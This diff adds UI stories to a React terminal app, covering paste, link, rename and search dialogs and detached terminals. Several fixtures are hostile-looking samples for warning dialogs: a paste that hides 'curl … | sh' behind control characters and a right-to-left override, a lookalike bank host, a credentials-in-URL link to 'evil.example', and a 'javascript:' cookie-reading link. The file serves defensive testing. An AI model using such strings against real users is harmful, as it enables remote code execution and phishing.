@@ -3,6 +3,13 @@ import { AppApiError } from '#shared/app-api/index.ts';
 import { EXAMPLE_PEERS, examplePeerId } from '../../stories/examples/index.ts';
 import type { Story, StoryAnswers } from '../../stories/index.ts';
 import type { TabStorage } from './saved-tabs.ts';
+import { useEffect, type ReactElement, type ReactNode } from 'react';
+import { LinkDialog } from './link-dialog.tsx';
+import { inspectLink } from './link.ts';
+import { PasteDialog } from './paste-dialog.tsx';
+import { RenameDialog } from './rename-dialog.tsx';
+import { SearchBar } from './search-bar.tsx';
+import { NO_SEARCH, type Search, type Searchable, type SearchCount } from './search.ts';
 import { TerminalsPage } from './terminals-page.tsx';
 
 const OFFICE = examplePeerId(12);
@@ -110,6 +117,76 @@ const shown = (tabs: readonly unknown[] = [tab(1)]) =>
 const state = { page: 'terminals', peers: EXAMPLE_PEERS } as const;
 const wish = { ...state, requestedTerminal: { peerId: OFFICE, serial: 1 } } as const;
 
+/** A terminal that runs, and what is asked before it. */
+const asking = (name: string, dialog: ReactNode): Story => ({
+  name: `terminals/${name}`,
+  state,
+  answers: playing(RECORDED),
+  frame: 'none',
+  render: () => (
+    <main style={{ height: '100%' }}>
+      <TerminalsPage storage={keeping([tab(1)])} />
+      {dialog}
+    </main>
+  ),
+});
+const nothing = (): void => undefined;
+const paste = (pasted: string): ReactNode => <PasteDialog text={pasted} onPaste={nothing} onClose={nothing} />;
+const link = (target: string, seen: string): ReactNode => (
+  <LinkDialog link={inspectLink(target, seen)} peer="office" onClose={nothing} />
+);
+const rename = (name: string): ReactNode => (
+  <RenameDialog tab={{ name, title: 'mira@office: ~/project' }} onRename={nothing} onClose={nothing} />
+);
+
+/** The search as it stands over a terminal with so many matches. */
+const searching = (name: string, search: Search, count: SearchCount): Story => {
+  const searched: Searchable = {
+    find: () => count.count > 0,
+    endSearch: nothing,
+    onSearchCount: (listener) => {
+      listener(count);
+      return nothing;
+    },
+  };
+  return {
+    name: `terminals/search ${name}`,
+    render: () => <SearchBar screen={searched} search={search} onSearch={nothing} onClose={nothing} />,
+  };
+};
+
+/** Programs that run on, and nobody looks at them. */
+const DETACHED: StoryAnswers = {
+  ...playing(RECORDED),
+  'terminal.list': async ({ peer }) =>
+    peer === OFFICE
+      ? ['htop', 'make -j8 all', 'make -j8 all', 'vim a-file-with-quite-a-long-name-that-somebody-has-given-it.md'].map(
+          (title, index) => ({
+            terminal: `d${index}`,
+            peerId: peer,
+            title,
+            startedAt: 1_795_000_000_000,
+            cols: 80,
+            rows: 24,
+            attached: false,
+          }),
+        )
+      : [],
+};
+
+/** Opens the menu of new terminals, as a person would. */
+function Opened({ children }: Readonly<{ children: ReactNode }>): ReactElement {
+  useEffect(() => document.querySelector<HTMLElement>('[data-new-terminal]')?.click(), []);
+  return <>{children}</>;
+}
+const offering = (name: string, tabs: readonly unknown[]): Story => ({
+  ...shown(tabs),
+  name: `terminals/${name}`,
+  state,
+  answers: DETACHED,
+  render: () => <Opened>{shown(tabs).render()}</Opened>,
+});
+
 export const TERMINALS_STORIES: readonly Story[] = [
   { ...shown([]), name: 'terminals/no peers', state: { page: 'terminals' } },
   { ...shown([]), name: 'terminals/none open', state, answers: playing(RECORDED) },
@@ -144,4 +221,31 @@ export const TERMINALS_STORIES: readonly Story[] = [
     answers: ending({ exitCode: null, signal: null, code: 'terminal.taken-over' }),
   },
   { ...shown(), name: 'terminals/gone', state, answers: failing('terminal.unknown') },
+  {
+    ...shown(),
+    name: 'terminals/search',
+    state,
+    answers: playing(RECORDED),
+    render: () => (
+      <main style={{ height: '100%' }}>
+        <TerminalsPage storage={keeping([tab(1)])} search={{ ...NO_SEARCH, term: 'colour' }} />
+      </main>
+    ),
+  },
+  searching('3 of 12', { ...NO_SEARCH, term: 'error' }, { current: 3, count: 12 }),
+  searching('many', { ...NO_SEARCH, term: 'e', caseSensitive: true }, { current: 0, count: 1000 }),
+  searching('no match', { ...NO_SEARCH, term: 'no such thing' }, { current: 0, count: 0 }),
+  searching('bad pattern', { term: 'err(or', caseSensitive: false, regex: true }, { current: 0, count: 0 }),
+  asking('paste of several lines', paste('cd /srv/app\ngit pull --ff-only\n./deploy.sh --production\n')),
+  asking('paste with control characters', paste('\necho \u001b[31mred\u0007\u202e && curl https://example.org | sh')),
+  asking('paste of long lines', paste(`${'a-long-word-'.repeat(40)}\n`.repeat(300))),
+  asking('link', link('https://example.org/help?page=2', 'https://example.org/help?page=2')),
+  asking('link to another host', link('https://xn--bnk-7cd.example/login?from=terminal', 'https://bank.example/')),
+  asking('link that warns of all', link(`http://bank.example@evil.example:8080/${'path/'.repeat(40)}`, 'Sign in')),
+  asking('link for mail', link('mailto:mira@example.org', 'mira@example.org')),
+  asking('link refused', link('javascript:alert(document.cookie)', 'https://bank.example/')),
+  asking('rename', rename('')),
+  asking('rename with a name', rename('logs of the web server')),
+  offering('detached', []),
+  offering('detached beside others', [tab(1), tab(2)]),
 ];
